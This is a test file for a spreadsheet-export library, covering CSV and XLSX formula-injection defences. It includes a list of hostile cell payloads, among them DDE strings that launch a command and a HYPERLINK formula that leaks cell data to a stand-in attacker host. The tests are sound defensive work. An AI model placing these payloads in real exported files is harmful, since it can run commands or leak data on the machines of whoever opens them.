import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRecord, neutraliseCell, restoreCell, sheetCell } from './formula.js';
import { parseCsv } from './read-csv.js';
import { writeCsv } from './write-csv.js';
import { readXlsx, writeXlsx } from './xlsx.js';

/** Texts a spreadsheet would run (or could be made to run) as formulas. */
export const hostileCells = [
  '=1+1',
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1',
  '-1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  "'=1+1",
];
const trigger = /^[=+\-@\t\r\n＝＋－＠]/;

describe('formula injection', () => {
  it('neutralises every trigger character, full-width ones included', () => {
    for (const payload of hostileCells) expect(neutraliseCell(payload), payload).toBe(`'${payload}`);
    expect(neutraliseCell('杭州西子贸易')).toBe('杭州西子贸易');
    expect(neutraliseCell('a=b')).toBe('a=b');
    // A full-width sign inside the text is not at the start: left alone.
    expect(neutraliseCell('价格＝100')).toBe('价格＝100');
  });
  it('is undone exactly by restoreCell: export → import is the identity', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(restoreCell(neutraliseCell(text))).toBe(text);
      }),
      { numRuns: 2000 },
    );
    for (const payload of hostileCells) expect(restoreCell(neutraliseCell(payload))).toBe(payload);
  });
  it('never lets a neutralised cell start with a trigger', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom(...hostileCells)), (text) => {
        expect(trigger.test(neutraliseCell(text))).toBe(false);
      }),
    );
  });
  it('sheetCell leaves numbers and booleans as they are: a negative amount is not text', () => {
    expect(sheetCell(-2)).toBe(-2);
    expect(sheetCell(true)).toBe(true);
    expect(sheetCell(undefined)).toBe(null);
    expect(sheetCell('-2')).toBe("'-2");
    expect(csvRecord(['=1+1', -2.5, 'a,"b"', null])).toBe(`'=1+1,-2.5,"a,""b""",`);
  });
});

describe('every sheet writer of core writes hostile text inert', () => {
  const rows = [['id', 'name', 'amount'], ...hostileCells.map((text, i) => [text, `${text} 名称`, -(i + 1)])];
  it('writeCsv: read back, every text cell is the payload behind one apostrophe; numbers stay numbers', () => {
    const table = parseCsv(writeCsv(rows));
    expect(table.rows).toHaveLength(hostileCells.length);
    table.rows.forEach((row, i) => {
      expect(trigger.test(row.cells[0]!)).toBe(false);
      // A quoted CR reads back as a line end (every line end reads as LF), still behind the apostrophe.
      expect(row.cells[0]).toBe(`'${hostileCells[i]!.replace(/\r/g, '\n')}`);
      expect(restoreCell(row.cells[1]!)).toBe(`${hostileCells[i]!.replace(/\r/g, '\n')} 名称`);
      expect(row.cells[2]).toBe(String(-(i + 1)));
    });
  });
  it('writeXlsx: every text cell is a plain string (no formula), numbers stay numbers', async () => {
    const bytes = await writeXlsx(rows);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    hostileCells.forEach((text, i) => {
      const id = sheet.getRow(i + 2).getCell(1);
      expect(id.type).toBe(ExcelJS.ValueType.String);
      // XML keeps no lone carriage return: it reads back as a line feed, still behind the apostrophe.
      expect(String(id.value)).toBe(`'${text.replace(/\r/g, '\n')}`);
      expect(sheet.getRow(i + 2).getCell(3).value).toBe(-(i + 1));
    });
    const table = await readXlsx(bytes);
    expect(table.rows.map((row) => restoreCell(row.cells[0]!))).toEqual(hostileCells.map((text) => text.replace(/\r/g, '\n')));
  });
});
